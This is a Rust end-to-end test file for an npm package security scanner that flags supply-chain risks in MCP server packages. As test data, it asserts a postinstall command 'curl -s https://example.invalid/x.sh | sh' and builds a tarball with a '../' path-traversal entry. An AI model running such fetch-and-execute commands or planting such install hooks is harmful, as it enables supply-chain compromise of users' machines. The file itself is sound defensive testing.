//! End-to-end: the real binary against the loopback fixture registry.

use std::time::Duration;

use crate::support::*;
use serde_json::json;

#[test]
fn well_kept_package_passes_the_gate() {
    let reg = fixture_registry();
    let out = run(scan(
        &reg,
        &[
            "@modelcontextprotocol/server-filesystem",
            "--fail-under",
            "70",
            "--min-coverage",
            "100",
        ],
    ));
    assert_eq!(out.code, 0, "{}{}", out.stdout, out.stderr);
    assert!(
        out.stdout.contains(
            "@modelcontextprotocol/server-filesystem@2026.7.10  score 99/100 (A)  coverage 100%"
        ),
        "{}",
        out.stdout
    );
    // The packument is fetched in full form.
    let req = &reg.requests()[0];
    assert_eq!(req.header("accept"), Some("application/json"));
}

#[test]
fn listed_provenance_that_cannot_be_fetched_lowers_coverage() {
    let reg = fixture_registry();
    let out = run(scan(&reg, &["good-mcp-server", "--format", "json"]));
    assert_eq!(out.code, 0, "{}", out.stderr);
    let r = json(&out);
    let p = &r["packages"][0];
    assert_eq!(p["findings"].as_array().unwrap().len(), 0);
    assert!(p["coverage"].as_u64().unwrap() < 100);
    assert!(inconclusive_ids(&r, 0).contains(&"provenance-invalid".to_string()));
    assert_eq!(p["facts"]["signatures"]["status"], "verified");
}

#[test]
fn risky_package_fails_the_gate_with_the_expected_findings() {
    let reg = fixture_registry();
    let out = run(scan(
        &reg,
        &["risky-mcp-server", "--format", "json", "--fail-under", "70"],
    ));
    assert_eq!(out.code, 1, "{}{}", out.stdout, out.stderr);
    let r = json(&out);
    assert_eq!(r["schema_version"], 1);
    assert_eq!(r["packages"][0]["version"], "0.0.2");
    assert_eq!(r["packages"][0]["status"], "failed");
    let ids = finding_ids(&r, 0);
    for want in [
        "single-maintainer",
        "token-publish",
        "provenance-missing",
        "recent-release",
        "latest-not-highest",
        "no-repository",
        "no-license",
        "version-zero-zero",
        "dependency-wildcard",
        "dependency-open-range",
        "dependency-caret-zero",
        "dependency-remote",
        "install-scripts",
        "git-head-missing",
    ] {
        assert!(ids.contains(&want.to_string()), "missing {want} in {ids:?}");
    }
    // Findings are sorted by severity, most severe first.
    let sev: Vec<u8> = r["packages"][0]["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| match f["severity"].as_str().unwrap() {
            "critical" => 4,
            "high" => 3,
            "medium" => 2,
            "low" => 1,
            _ => 0,
        })
        .collect();
    assert!(sev.windows(2).all(|w| w[0] >= w[1]), "{sev:?}");
    let scripts = &r["packages"][0]["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["rule"] == "install-scripts")
        .unwrap()["evidence"]["scripts.install_commands"];
    assert_eq!(
        scripts["postinstall"],
        "curl -s https://example.invalid/x.sh | sh"
    );
    assert_eq!(r["summary"]["failed"], 1);
    assert_eq!(r["exit_code"], 1);
}

#[test]
fn account_takeover_history_is_flagged() {
    let reg = fixture_registry();
    let out = run(scan(&reg, &["takeover-demo", "--format", "json"]));
    assert_eq!(out.code, 1, "the default gate fails it: {}", out.stderr);
    let r = json(&out);
    assert_eq!(r["packages"][0]["version"], "1.2.1");
    let ids = finding_ids(&r, 0);
    for want in [
        "new-publisher",
        "publisher-ci-to-human",
        "trust-downgrade",
        "git-head-missing",
        "ownership-transfer",
        "token-publish",
    ] {
        assert!(ids.contains(&want.to_string()), "missing {want} in {ids:?}");
    }
    // The version before the takeover is clean on the same axes.
    let out = run(scan(&reg, &["takeover-demo@1.2.0", "--format", "json"]));
    let ids = finding_ids(&json(&out), 0);
    assert!(ids.is_empty(), "{ids:?}");
}

#[test]
fn stripped_metadata_is_inconclusive_never_a_pass() {
    let reg = fixture_registry();
    let out = run(scan(
        &reg,
        &["@fixture/mirrored-server", "--format", "json"],
    ));
    assert_eq!(out.code, 0, "{}", out.stderr);
    let r = json(&out);
    let p = &r["packages"][0];
    let unknown = inconclusive_ids(&r, 0);
    for want in [
        "single-maintainer",
        "new-publisher",
        "token-publish",
        "provenance-missing",
        "signatures-missing",
        "publisher-not-maintainer",
    ] {
        assert!(
            unknown.contains(&want.to_string()),
            "{want} not inconclusive: {unknown:?}"
        );
        assert!(
            !p["passed"].as_array().unwrap().contains(&json!(want)),
            "{want} counted as passed"
        );
    }
    assert!(p["coverage"].as_u64().unwrap() < 100);
    assert!(p["score_floor"].as_u64() < p["score"].as_u64());
    assert_eq!(
        p["facts"]["maintainers"]["count"]["$unknown"],
        "the registry returned no maintainers for this package"
    );
    assert!(r["summary"]["inconclusive"].as_u64().unwrap() >= 6);

    let out = run(scan(
        &reg,
        &["@fixture/mirrored-server", "--min-coverage", "90"],
    ));
    assert_eq!(out.code, 1, "{}", out.stdout);
    assert!(
        out.stdout.contains("is below --min-coverage 90%"),
        "{}",
        out.stdout
    );

    // --strict turns unknown into failure.
    let out = run(scan(&reg, &["@fixture/mirrored-server", "--strict"]));
    assert_eq!(out.code, 1, "{}", out.stdout);
    assert!(out.stdout.contains("--strict"), "{}", out.stdout);
    assert!(out.stdout.contains("unknown"), "{}", out.stdout);
}

#[test]
fn real_packuments_scan() {
    let reg = fixture_registry();
    let out = run(scan(
        &reg,
        &[
            "abbrev",
            "abbrev@3.0.0",
            "@modelcontextprotocol/server-filesystem",
            "--format",
            "json",
        ],
    ));
    assert_eq!(out.code, 0, "{}", out.stderr);
    let r = json(&out);
    let abbrev = &r["packages"][0];
    assert_eq!(abbrev["version"], "4.0.0");
    assert_eq!(abbrev["facts"]["publish"]["method"], "trusted-publisher");
    // abbrev lists attestations that the fixture registry does not serve: unknown, not a pass.
    assert!(abbrev["facts"]["provenance"]["status"]["$unknown"]
        .as_str()
        .unwrap()
        .contains("answered 404"));
    assert_eq!(abbrev["facts"]["publish"]["has_signatures"], true);
    let old = &r["packages"][1];
    assert_eq!(old["version"], "3.0.0");
    assert_eq!(old["facts"]["publish"]["method"], "ci-provenance");
    // The scoped request went out as @scope%2fname.
    assert!(reg.requests().iter().any(|q| q
        .raw_path
        .eq_ignore_ascii_case("/@modelcontextprotocol%2fserver-filesystem")));
    let fs = &r["packages"][2];
    assert_eq!(fs["version"], "2026.7.10");
    assert_eq!(fs["facts"]["maintainers"]["count"], 7);
}

#[test]
fn missing_package_is_reported_and_the_rest_go_on() {
    let reg = fixture_registry();
    let out = run(scan(
        &reg,
        &[
            "risky-mcp-server",
            "does-not-exist",
            "good-mcp-server@9.9.9",
            "--fail-under",
            "70",
        ],
    ));
    // 3 (could not check) wins over 1 (risky failed the gate).
    assert_eq!(out.code, 3, "{}", out.stdout);
    assert!(
        out.stdout.contains("risky-mcp-server@0.0.2"),
        "{}",
        out.stdout
    );
    assert!(
        out.stderr
            .contains("package does-not-exist does not exist on http://127.0.0.1"),
        "{}",
        out.stderr
    );
    assert!(
        out.stderr
            .contains("cannot check good-mcp-server@9.9.9: version 9.9.9 does not exist"),
        "{}",
        out.stderr
    );
    assert!(
        out.stdout
            .contains("3 package(s): 0 passed, 1 failed, 2 could not be checked"),
        "{}",
        out.stdout
    );

    let out = run(scan(&reg, &["does-not-exist", "--format", "json"]));
    assert_eq!(out.code, 3);
    let r = json(&out);
    assert_eq!(r["packages"][0]["error"]["kind"], "not-found");
    assert_eq!(r["packages"][0]["status"], "error");
}

#[test]
fn invalid_specs_are_usage_errors_naming_the_spec() {
    let reg = fixture_registry();
    for bad in [
        "foo bar",
        "@scope",
        "git+https://github.com/a/b",
        "foo@what?",
    ] {
        let out = run(scan(&reg, &["good-mcp-server", bad]));
        assert_eq!(out.code, 2, "{bad}: {}", out.stderr);
        assert!(out.stderr.contains(&format!("`{bad}`")), "{}", out.stderr);
        assert_eq!(out.stderr.lines().count(), 1, "{}", out.stderr);
    }
    // Nothing was fetched: inputs are validated before any request.
    assert!(reg.requests().is_empty());
    let out = run(scan(&reg, &[]));
    assert_eq!(out.code, 2);
}

#[test]
fn broken_documents_are_errors_on_that_package() {
    let reg = fixture_registry();
    let out = run(scan(
        &reg,
        &["broken-json", "empty-versions", "good-mcp-server"],
    ));
    assert_eq!(out.code, 3, "{}", out.stdout);
    assert!(out.stderr.contains("broken-json"), "{}", out.stderr);
    assert!(
        out.stderr.contains("malformed document: invalid JSON"),
        "{}",
        out.stderr
    );
    assert!(
        out.stderr
            .contains("cannot check empty-versions: the registry lists no versions"),
        "{}",
        out.stderr
    );
    assert!(
        out.stdout.contains("good-mcp-server@1.2.0"),
        "{}",
        out.stdout
    );
}

#[test]
fn html_instead_of_json_is_diagnosed() {
    let reg = fixture_registry();
    reg.fault("/good-mcp-server", Fault::Html);
    let out = run(scan(&reg, &["good-mcp-server"]));
    assert_eq!(out.code, 3);
    assert!(
        out.stderr
            .contains("cannot check good-mcp-server: http://127.0.0.1"),
        "{}",
        out.stderr
    );
    assert!(out.stderr.contains("returned text/html"), "{}", out.stderr);
    assert!(out.stderr.contains("instead of JSON"), "{}", out.stderr);
}

#[test]
fn oversized_packument_is_refused() {
    let reg = fixture_registry();
    let big = "x".repeat(1_100_000);
    reg.add_packument(
        "huge-pkg",
        json!({"name": "huge-pkg", "dist-tags": {"latest": "1.0.0"}, "readme": big,
               "versions": {"1.0.0": {"name": "huge-pkg", "version": "1.0.0"}}}),
    );
    let out = run(scan(&reg, &["huge-pkg", "--max-body-mb", "1"]));
    assert_eq!(out.code, 3, "{}", out.stdout);
    assert!(
        out.stderr.contains("more than 1048576 bytes"),
        "{}",
        out.stderr
    );
    let out = run(scan(&reg, &["huge-pkg", "--max-body-mb", "2"]));
    assert_eq!(out.code, 0, "{}", out.stderr);
}

#[test]
fn server_errors_are_retried_with_backoff() {
    let reg = fixture_registry();
    reg.fault(
        "/good-mcp-server",
        Fault::Status {
            code: 503,
            times: 2,
        },
    );
    // --no-deps: only the package's own requests are counted.
    let out = run(scan(&reg, &["good-mcp-server", "--no-deps"]));
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert_eq!(reg.hits("/good-mcp-server"), 3);

    reg.fault(
        "/takeover-demo",
        Fault::Status {
            code: 500,
            times: 10,
        },
    );
    let out = run(scan(&reg, &["takeover-demo", "--retries", "2"]));
    assert_eq!(out.code, 3);
    assert!(out.stderr.contains("answered HTTP 500"), "{}", out.stderr);
    assert_eq!(reg.hits("/takeover-demo"), 3);
}

#[test]
fn rate_limits_honour_retry_after() {
    let reg = fixture_registry();
    reg.fault(
        "/good-mcp-server",
        Fault::TooManyRequests {
            retry_after_secs: 1,
            times: 1,
        },
    );
    let start = std::time::Instant::now();
    let out = run(scan(&reg, &["good-mcp-server", "--no-deps"]));
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert_eq!(reg.hits("/good-mcp-server"), 2);
    // The client waited as told rather than its own 10 ms backoff.
    assert!(start.elapsed() >= Duration::from_secs(1));
}

#[test]
fn truncated_bodies_and_delays() {
    let reg = fixture_registry();
    reg.fault("/good-mcp-server", Fault::Truncate { bytes: 100 });
    let out = run(scan(&reg, &["good-mcp-server", "--retries", "1"]));
    assert_eq!(out.code, 3);
    assert!(out.stderr.contains("cut off"), "{}", out.stderr);

    reg.fault("/takeover-demo", Fault::Delay(Duration::from_secs(3)));
    let out = run(scan(
        &reg,
        &["takeover-demo", "--timeout", "1", "--retries", "0"],
    ));
    assert_eq!(out.code, 3);
    assert!(out.stderr.contains("timed out"), "{}", out.stderr);
}

#[test]
fn registry_url_validation() {
    let mut cmd = mcp_audit();
    cmd.args(["scan", "x", "--registry", "registry.example.com"]);
    let out = run(cmd);
    assert_eq!(out.code, 2);
    assert!(out.stderr.contains("has no scheme"), "{}", out.stderr);
    let mut cmd = mcp_audit();
    cmd.args(["scan", "x", "--registry", "http://registry.example.com/"]);
    let out = run(cmd);
    assert_eq!(out.code, 2);
    assert!(out.stderr.contains("plain http"), "{}", out.stderr);
}

#[test]
fn no_progress_bar_or_noise_when_piped() {
    let reg = fixture_registry();
    let out = run(scan(&reg, &["good-mcp-server", "takeover-demo"]));
    assert_eq!(out.code, 1, "takeover-demo fails the default gate");
    assert_eq!(out.stderr, "", "stderr must stay empty when not a TTY");
    // Two targets get a summary table.
    assert!(out.stdout.contains("│ Package"), "{}", out.stdout);
}

#[test]
fn verbose_logs_each_target_and_quiet_is_one_line() {
    let reg = fixture_registry();
    let out = run(scan(&reg, &["good-mcp-server", "-v"]));
    assert!(
        out.stderr
            .contains("good-mcp-server → good-mcp-server@1.2.0"),
        "{}",
        out.stderr
    );
    // The verdict, the default gate's reasons, the summary and the gate in effect: no tables.
    let out = run(scan(&reg, &["risky-mcp-server", "-q"]));
    let lines: Vec<&str> = out.stdout.lines().collect();
    assert!(lines[0].starts_with("risky-mcp-server@"), "{}", out.stdout);
    assert!(
        lines[1..lines.len() - 2]
            .iter()
            .all(|l| l.starts_with("  gate: ")),
        "{}",
        out.stdout
    );
    assert!(
        lines[lines.len() - 1].starts_with("gate: fail_under 50"),
        "{}",
        out.stdout
    );
    assert!(!out.stdout.contains('│'), "{}", out.stdout);
}

#[test]
fn json_output_never_contains_a_progress_bar_and_is_one_document() {
    let reg = fixture_registry();
    let out = run(scan(
        &reg,
        &["good-mcp-server", "risky-mcp-server", "--format", "json"],
    ));
    let r = json(&out);
    assert_eq!(r["summary"]["packages"], 2);
    assert_eq!(out.stderr, "");
}

/// A gzip stream cut short, served with an integrity that matches the cut bytes: the damage was
/// published, so it reaches the archive reader.
fn publish_truncated(reg: &TestRegistry, name: &str, entries: &[(&str, &[u8])]) {
    let mut builder = tar::Builder::new(Vec::new());
    for (path, data) in entries {
        let mut h = tar::Header::new_gnu();
        h.set_size(data.len() as u64);
        h.set_mode(0o644);
        // set_path refuses `..`; write the raw name the way a hostile packer would.
        h.as_old_mut().name[..path.len()].copy_from_slice(path.as_bytes());
        h.set_cksum();
        builder.append(&h, *data).unwrap();
    }
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    std::io::Write::write_all(&mut gz, &builder.into_inner().unwrap()).unwrap();
    let full = gz.finish().unwrap();
    crate::tarball::publish_crafted(reg, name, full[..full.len() - 12].to_vec());
}

/// Issue K: content rules passed on a partial read. What the unread part may hold is unknown, so
/// "nothing found" is inconclusive; what was found before the cut is still a finding.
#[test]
fn a_truncated_tarball_makes_content_rules_inconclusive_not_passed() {
    let reg = fixture_registry();
    publish_truncated(
        &reg,
        "cut-short",
        &[
            (
                "package/package.json",
                br#"{"name":"cut-short","version":"1.0.0","license":"MIT"}"#,
            ),
            ("package/../escape.js", b"module.exports = 1"),
            ("package/index.js", b"module.exports = 2"),
        ],
    );
    publish_truncated(
        &reg,
        "not-json-manifest",
        &[("package/package.json", b"{ nope")],
    );
    let out = run(scan(
        &reg,
        &["cut-short", "not-json-manifest", "--format", "json"],
    ));
    assert_ne!(out.code, 3, "{}", out.stderr);
    let r = json(&out);
    let cut = &r["packages"][0];
    let content = &cut["facts"]["content"];
    assert_eq!(content["complete"], false, "{content}");
    assert!(
        content["native_binaries"]["$unknown"]
            .as_str()
            .is_some_and(|why| why.contains("read only in part")),
        "{content}"
    );
    assert!(content["obfuscation_confidence"]["$unknown"].is_string());
    let inconclusive = inconclusive_ids(&r, 0);
    for rule in ["native-binary", "leaked-credentials", "never-packed-files"] {
        assert!(
            inconclusive.contains(&rule.to_string()),
            "{rule}: {inconclusive:?}"
        );
    }
    let findings = finding_ids(&r, 0);
    assert!(
        findings.contains(&"tarball-unreadable".to_string()),
        "{findings:?}"
    );
    assert!(
        findings.contains(&"tarball-path-problems".to_string()),
        "a problem seen before the cut is still a finding: {content}"
    );
    // A package.json that is not JSON leaves the scripts and the manifest unjudged.
    let inconclusive = inconclusive_ids(&r, 1);
    for rule in ["manifest-confusion", "install-script-fetches-code"] {
        assert!(
            inconclusive.contains(&rule.to_string()),
            "{rule}: {inconclusive:?}"
        );
    }
}
